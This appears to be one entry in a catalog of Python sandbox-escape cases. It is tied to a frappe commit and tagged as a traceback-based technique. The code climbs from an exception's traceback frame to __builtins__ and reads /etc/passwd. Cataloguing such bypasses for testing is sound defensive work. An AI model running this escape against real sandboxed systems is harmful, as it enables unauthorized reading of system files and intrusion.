# Source: https://github.com/frappe/frappe/commit/d14698277450d3b2516f29324ff4134b37d7ea29
# Family: traceback
# What: Exception.with_traceback and tb_frame.f_code/f_globals
try:
    raise ValueError
except ValueError as e:
    fr = e.with_traceback(e.__traceback__).__traceback__.tb_frame
    print(fr.f_globals["__builtins__"].open("/etc/passwd").read())
